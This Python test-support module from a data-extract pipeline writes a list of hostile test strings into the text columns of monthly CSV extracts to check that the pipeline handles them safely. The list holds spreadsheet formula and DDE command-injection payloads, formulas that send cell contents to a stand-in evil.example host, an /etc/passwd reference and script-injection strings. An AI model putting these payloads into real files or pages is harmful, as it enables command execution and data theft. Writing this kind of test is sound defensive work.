"""Texts that a spreadsheet, browser or terminal could take for more than a text, put into a month's extracts."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path

from lift.sources.folder import Folder
from lift.sources.profiles import load_profiles
from lift.sources.reader import Source

#: What the SHBE, which has no quotes, cannot hold is written there without the sign that parts its fields.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(A1:A9)", "{=1+1}",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")', '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")', '=IF(1,"=1+1","")', "='file:///etc/passwd'#$passwd.A1",
    " =1+1", "\u00a0=1+1", "\t=1+1", "\u200b=1+1", "\u202e=1+1", "\uff1d1+1", "\uff20SUM(1+1)",
    "'=1+1", '"=1+1', '","=1+1', ';=1+1;"', "http://evil.example/", "mailto:mallory@evil.example", "internal:notes!A1",
    "<r><t>rich</t></r>", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]></t><f>1+1</f>",
    "_x003D_1+1", "&quot;=1+1", "%0A=1+1", "\x1b[2J=1+1",
)  # fmt: skip

SHOWN = [text for text in PAYLOADS if text.isprintable()]


def put_in(folder: Path, month: date) -> dict[str, set[tuple[str, str]]]:
    """Writes every payload into every text column of every extract of a folder (of identifiers of which a file has few,
    as many as leave most of them right), and says which stand where: file to pairs of column and payload. One in a
    row, so that it still joins others by what is left.

    Rows of the suppression list stay as they are, and those with payloads are added, each acknowledged: whoever it
    names must still be held back."""
    received = Folder(folder, month, None, load_profiles()).receive()
    return {source.name: _into(source) for source in received.sources}


def _into(source: Source) -> set[tuple[str, str]]:
    """One payload in a row. Where there are too few rows, copies of some are added."""
    rows, profile = _rows(source), source.layout.profile
    before, trailer = len(rows), rows.pop() if source.trailer_line else None
    records = [row for row in rows[profile.csv_quotes :] if len(row) == source.layout.width]
    columns = []
    for name, field, looks in _text_columns(source):
        # A column of which most cannot be read is taken for a swapped one, and the file refused.
        filled = len({row[field] for row in records if row[field].strip()})
        columns.append((name, field, filled // 2 if looks else len(PAYLOADS)))
    # A row with a control sign is refused, and with a suppression that cannot be read nothing is exported.
    texts = [text for text in PAYLOADS if text.isprintable()] if profile.kind.name == "suppression" else PAYLOADS
    wanted = [(name, field, text) for place, text in enumerate(texts) for name, field, room in columns if place < room]
    for number, (_, field, text) in enumerate(wanted):
        if profile.kind.name == "suppression":
            row = _acknowledged(rows[0], records[0])
            rows.append(row)
        elif number < len(records):
            row = records[number]
        else:
            row = list(records[number % len(records)])
            rows.append(row)
        row[field] = text
    for name, field, _ in columns:
        if name.endswith((".address2", ".address3", ".address4")):  # shown to people; homes are found by other things
            for number, row in enumerate(records):
                row[field] = SHOWN[(number + 13 * int(name[-1])) % len(SHOWN)]
    if trailer is not None and profile.count_field is not None:
        trailer[profile.count_field - 1] = str(int(trailer[profile.count_field - 1]) + len(rows) + 1 - before)
        rows.append(trailer)
    _write(source, rows)
    return {(name, text) for name, _, text in wanted}


def _acknowledged(titles: list[str], like: list[str]) -> list[str]:
    """A row of the suppression list that names nobody, as somebody has confirmed."""
    said = {"nino": "MW999999D", "reason": "do_not_contact", "acknowledged": "Y", "acknowledged_by": "Lead"}
    return [like[place] if title == "extract_date" else said.get(title, "") for place, title in enumerate(titles)]


def _text_columns(source: Source) -> Iterator[tuple[str, int, bool]]:
    """Each with its field, and whether it has to look like a number of some sort."""
    seen = set()
    for table in source.layout.profile.tables:
        for reading in table.readings:
            if table.kind.columns[reading.name].type == "text":
                for field in source.layout.fields_of(reading):
                    if field not in seen:
                        seen.add(field)
                        yield f"{table.kind.name}.{reading.name}", field, reading.column.looks_like is not None


def _rows(source: Source) -> list[list[str]]:
    text = source.examined.path.read_text(encoding="cp1252" if source.examined.encoding == "cp1252" else "utf-8-sig")
    if not source.layout.profile.csv_quotes:
        return [line.split(source.layout.delimiter) for line in text.splitlines()]
    return list(csv.reader(text.splitlines(), delimiter=source.layout.delimiter))


def _write(source: Source, rows: list[list[str]]) -> None:
    sign = source.layout.delimiter
    with source.examined.path.open("w", encoding="utf-8", newline="") as file:
        if source.layout.profile.csv_quotes:
            csv.writer(file, delimiter=sign, lineterminator="\n").writerows(rows)
            return
        for row in rows:
            file.write(sign.join(cell.replace(sign, "/") for cell in row) + "\n")
